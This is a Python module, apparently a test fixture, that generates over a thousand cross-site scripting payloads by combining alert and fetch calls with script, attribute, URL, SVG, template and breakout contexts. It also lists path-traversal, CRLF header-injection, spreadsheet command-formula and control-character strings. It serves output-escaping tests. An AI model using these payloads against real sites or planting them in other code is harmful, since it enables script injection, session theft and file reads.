# ruff: noqa: E501  Payloads are not broken into lines.
"""Texts that would do something in a page which did not escape them.

Each calls ``alert`` or loads something from elsewhere, in one of the contexts that a page has:
text, attributes, addresses, scripts, styles, SVG and templates; or it changes how a page reads.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator

CALLS = (
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "parent.alert(document.domain)",
    "window.name=1;alert(2)",
    "fetch('//e.x')",
)
CONTEXTS = (
    "<script>{}</script>", "</script><script>{}</script>", "<ScRiPt >{}</sCrIpT>",
    "<scr<script>ipt>{}</script>", "<img src=x onerror={}>", "<img src=x onerror=\"{}\">",
    "\"><img src=x onerror={}>", "'><img src=x onerror='{}'>", "<svg onload={}>",
    "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg/onload={}//", "<body onload={}>", "<iframe srcdoc=\"<script>{}</script>\">",
    "<iframe src=\"javascript:{}\">", "<a href=\"javascript:{}\">x</a>", "javascript:{}",
    "JaVaScRiPt:{}", "java\tscript:{}", "data:text/html,<script>{}</script>",
    "\" onmouseover=\"{}", "' onfocus='{}' autofocus='", "\" autofocus onfocus={} x=\"",
    "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<math><mtext></table><img src=x onerror={}>",
    "<style>@import'//e.x';</style><!--{}-->", "<link rel=stylesheet href=//e.x/{}>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<base href=//e.x/>{}",
    "<form action=\"javascript:{}\"><button>x</button></form>", "<object data=\"javascript:{}\">",
    "--><script>{}</script><!--", "]]><script>{}</script>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "</style><script>{}</script>", "</svg><script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}", "{{% print({}) %}}", "${{{}}}", "#{{{}}}", "<%= {} %>",
    "';{};//", "\";{};//", "\\\";{};//", "`${{{}}}`", "*/{}/*", "\u2028{}\u2029",
)  # fmt: skip
"""Each has a place for a call."""
ODD = (
    "\u202e\u2066evil\u2069", "a\x00b", "\x1b]0;owned\x07", "\x7f\x85\x9b31m", "\ufeffbom", "\u200b",
    "&lt;script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "id=1&groups-page=2#x", "../../etc/passwd", "?a=b&c=d", "a\r\nSet-Cookie: x=y", "data: x\n\nevent: parts",
    "=cmd|'/c calc'!A1", "long" * 60, "\U0001f4a9" * 40, "\ufdfd" * 60, "e" + "\u0301" * 200,
    "true", "null", "0", "-1", "NaN", "__proto__", "constructor",
)  # fmt: skip


def hostile_texts() -> Iterator[str]:
    """Yield a thousand and some texts of at most 249 characters, each once."""
    wrapped = (
        context.format(call) + ending
        for call, context, ending in itertools.product(CALLS, CONTEXTS, ("", " ", "\n", "\u202e"))
    )
    seen = set()
    for text in itertools.chain(ODD, wrapped):
        if text not in seen:
            seen.add(text)
            yield text[:249]
